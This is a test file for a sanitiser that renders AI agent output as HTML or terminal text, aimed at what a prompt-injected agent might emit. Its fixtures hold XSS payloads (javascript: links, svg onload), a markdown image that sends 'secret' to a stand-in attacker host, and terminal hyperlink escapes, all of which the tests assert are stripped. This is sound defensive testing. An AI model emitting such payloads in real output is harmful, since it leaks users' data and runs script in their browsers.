import { markdownHtml, plainText, terminalText } from "./safe";

// What a prompt-injected agent writes, and what must come of it.
describe("agent output is rendered safely", () => {
  it("keeps http(s) and mailto links, drops script and data links", () => {
    const html = markdownHtml(
      "[docs](https://example.org/x) [mail](mailto:a@b.c) [x](javascript:alert(1)) [y](data:text/html,hi) [z](JAVASCRIPT:alert(1))",
    );
    const div = document.createElement("div");
    div.innerHTML = html;
    const hrefs = [...div.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://example.org/x", "mailto:a@b.c", null, null, null]);
    for (const a of div.querySelectorAll("a[href]")) expect(a.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("loads no remote image, even as a link's content or an autolink", () => {
    const html = markdownHtml(
      "![](https://attacker.example/?d=secret) [![x](https://a.example/i.png)](https://a.example)",
    );
    expect(html).not.toContain("<img");
    expect(html).not.toContain('attacker.example/?d=secret"');
  });

  it("drops raw HTML that marked passes through", () => {
    const html = markdownHtml(
      '<a href="javascript:alert(1)">x</a><form action="https://a.example"><button>go</button></form><svg onload=alert(1)></svg>',
    );
    expect(html).not.toMatch(/javascript:|<form|<button|<svg|onload/i);
  });

  it("keeps terminal colours and strips links, titles and other escapes", () => {
    const out = terminalText(
      "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b]0;title\x07done\x1b[2J\x1bPq#0;2\x1b\\",
    );
    expect(out).toBe("\x1b[31mred\x1b[0m click done");
  });
});

describe("plainText", () => {
  it("drops every escape and control character but tabs and newlines", () => {
    expect(plainText("\x1b[31mred\x1b[0m\tok\n\x1b]0;title\x07done\x07\x08")).toBe("red\tok\ndone");
  });
});
